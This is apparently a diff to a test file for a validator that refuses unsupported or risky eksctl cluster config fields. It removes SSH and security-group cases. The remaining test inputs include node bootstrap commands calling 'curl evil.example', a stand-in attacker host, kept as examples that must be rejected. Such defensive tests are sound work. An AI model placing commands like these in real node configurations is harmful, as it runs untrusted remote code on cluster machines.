@@ -57,11 +57,6 @@ describe('a field', () => {
       'metadata:\n  annotations: { a: b }',
       'config:4:3 metadata.annotations: it is not supported: nothing would carry them. Write tags.',
     ],
-    [
-      'ssh',
-      'managedNodeGroups:\n  - name: a\n    ssh: { allow: true }',
-      'config:5:5 managedNodeGroups[0].ssh: it is not supported: nodes have no SSH. Leave it out; with the policy AmazonSSMManagedInstanceCore in iam.attachPolicyARNs, `aws ssm start-session` opens a shell.',
-    ],
     ['karpenter', 'karpenter: { version: 1 }', 'config:3:1 karpenter: it is not supported. Leave it out.'],
   ])('of eksctl that is not supported is refused by its path: %s', async (_, lines, expected) => {
     expect(await problemsOf(lines)).toEqual([expected]);
@@ -74,7 +69,6 @@ describe('a field', () => {
     ['managedNodeGroups[0].ami', group('ami: ami-0123456789abcdef0')],
     ['managedNodeGroups[0].preBootstrapCommands', group('preBootstrapCommands: [curl evil.example]')],
     ['managedNodeGroups[0].overrideBootstrapCommand', group('overrideBootstrapCommand: curl evil.example')],
-    ['managedNodeGroups[0].securityGroups', group('securityGroups: { attachIDs: [sg-1] }')],
     ['managedNodeGroups[0].launchTemplate', group('launchTemplate: { id: lt-1 }')],
     ['managedNodeGroups[0].iam.attachPolicy', group('iam: { attachPolicy: { Statement: [] } }')],
   ])('by which somebody could do more than make nodes is refused: %s', async (path, lines) => {
